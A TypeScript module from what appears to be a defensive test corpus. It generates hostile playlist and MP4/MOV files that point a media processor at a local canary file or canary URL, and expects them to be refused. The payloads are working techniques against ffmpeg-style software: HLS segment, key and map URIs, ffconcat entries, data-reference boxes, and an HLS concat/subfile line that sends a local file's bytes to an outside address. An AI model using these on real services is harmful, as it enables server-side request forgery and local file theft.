/** Lists and references that send a player elsewhere: to this machine's files or its neighbours. */
import { addToBoxes, box, changeBoxes, u32 } from './boxes.ts';
import { ascii, type CorpusSettings, type HostileFile } from './entry.ts';
import type { Seeds } from './seeds.ts';

export function playlists({ mp4, mov }: Seeds, { canaryPath, canaryUrl }: CorpusSettings): HostileFile[] {
  const file = `file://${canaryPath}`;
  const m3u8 = (...lines: string[]): string =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:1\n${lines.join('\n')}\n#EXT-X-ENDLIST\n`;
  const segment = (address: string): string => `#EXTINF:1,\n${address}`;
  const texts: [name: string, fileName: string, text: string][] = [
    ['HLS of a file', 'a.m3u8', m3u8(segment(file))],
    ['HLS of a file, called MP4', 'a.mp4', m3u8(segment(file))],
    ['HLS of an address, called MP4', 'a.mp4', m3u8(segment(`${canaryUrl}/hls.ts`))],
    ['HLS with a key of a file', 'a.mp4', m3u8(`#EXT-X-KEY:METHOD=AES-128,URI="${file}"`, segment('a.ts'))],
    ['HLS with a map of an address', 'a.mp4', m3u8(`#EXT-X-MAP:URI="${canaryUrl}/map"`, segment('a.ts'))],
    [
      'HLS that glues a file to an address',
      'a.mp4',
      m3u8(segment(`concat:${canaryUrl}/x?|subfile,,start,0,end,64,,:${canaryPath}`)),
    ],
    ['HLS of HLS', 'a.webm', `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${canaryUrl}/master.m3u8\n`],
    ['HLS after a mark', 'a.mov', `\ufeff${m3u8(segment(file))}`],
    ['ffconcat', 'a.mp4', `ffconcat version 1.0\nfile '${canaryPath}'\n`],
    ['ffconcat of an address', 'a.mp4', `ffconcat version 1.0\nfile '${canaryUrl}/concat'\n`],
    [
      'XSPF',
      'a.xspf',
      `<?xml version="1.0"?><playlist xmlns="http://xspf.org/ns/0/"><trackList><track><location>${canaryUrl}/xspf</location></track></trackList></playlist>`,
    ],
    ['SMIL', 'a.smil', `<smil><body><video src="${canaryUrl}/smil"/><video src="${file}"/></body></smil>`],
    ['DASH', 'a.mpd', `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>${canaryUrl}/</BaseURL></MPD>`],
    ['ASX', 'a.asx', `<asx><entry><ref href="${canaryUrl}/asx"/></entry></asx>`],
    ['PLS', 'a.pls', `[playlist]\nFile1=${canaryUrl}/pls\n`],
    ['SDP', 'a.mp4', `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\n`],
    ['RTSP text', 'a.mov', `RTSPtext\r\nrtsp://127.0.0.1:${new URL(canaryUrl).port}/x\r\n`],
    ['a video format of ffmpeg that reads files', 'a.mp4', `DKIF\0\0 \0${file}`],
    ['Internet shortcut', 'a.url', `[InternetShortcut]\nURL=${file}\n`],
    ['YUV header', 'a.mp4', 'YUV4MPEG2 W65535 H65535 F30:1\nFRAME\n'],
    ['ffmetadata', 'a.mp4', ';FFMETADATA1\ntitle=x\n'],
  ];
  const reference = (type: string, address: string): Buffer =>
    box('dref', u32(0), u32(1), box(type, u32(0), ascii(`${address}\0`)));
  const elsewhere = (bytes: Buffer, type: string, address: string) => () =>
    changeBoxes(bytes, 'dref', () => reference(type, address));
  const binaries: [name: string, fileName: string, bytes: () => Uint8Array][] = [
    ['MP4 whose samples are in a file', 'a.mp4', elsewhere(mp4, 'url ', file)],
    ['MP4 whose samples are at an address', 'a.mp4', elsewhere(mp4, 'url ', `${canaryUrl}/dref`)],
    ['MP4 whose samples have a name', 'a.mp4', elsewhere(mp4, 'urn ', `urn:x\0${file}`)],
    [
      'MOV whose samples are in an alias',
      'a.mov',
      elsewhere(mov, 'alis', `${'\0'.repeat(150)}${canaryPath}`),
    ],
    ['MOV whose samples are in a file', 'a.mov', elsewhere(mov, 'url ', file)],
    ['MOV whose samples are in a resource', 'a.mov', elsewhere(mov, 'rsrc', canaryPath)],
    [
      'MOV reference movie',
      'a.mov',
      () =>
        Buffer.concat([
          box('ftyp', 'qt  ', u32(0), 'qt  '),
          box(
            'moov',
            box(
              'rmra',
              box(
                'rmda',
                box('rdrf', u32(0), ascii('url '), u32(canaryUrl.length + 6), ascii(`${canaryUrl}/rdrf\0`)),
              ),
            ),
          ),
        ]),
    ],
    [
      'MOV with a reference movie beside its tracks',
      'a.mov',
      () =>
        addToBoxes(
          mov,
          'moov',
          box(
            'rmra',
            box('rmda', box('rdrf', u32(0), ascii('url '), u32(file.length + 1), ascii(`${file}\0`))),
          ),
        ),
    ],
    [
      'MP4 whose handler is an address',
      'a.mp4',
      () => addToBoxes(mp4, 'moov', box('udta', box('url ', ascii(canaryUrl)))),
    ],
  ];
  return [
    ...texts.map(
      ([name, fileName, text]): HostileFile => ({
        name: `playlist: ${name}`,
        fileName,
        type: 'video/mp4',
        bytes: () => Buffer.from(text),
        expects: 'refused',
        note: 'nothing is opened, nobody is called',
      }),
    ),
    ...binaries.map(
      ([name, fileName, bytes]): HostileFile => ({
        name: `reference: ${name}`,
        fileName,
        type: 'video/mp4',
        bytes,
        expects: 'either',
        isolated: true,
        note: 'nothing is opened, nobody is called',
      }),
    ),
  ];
}
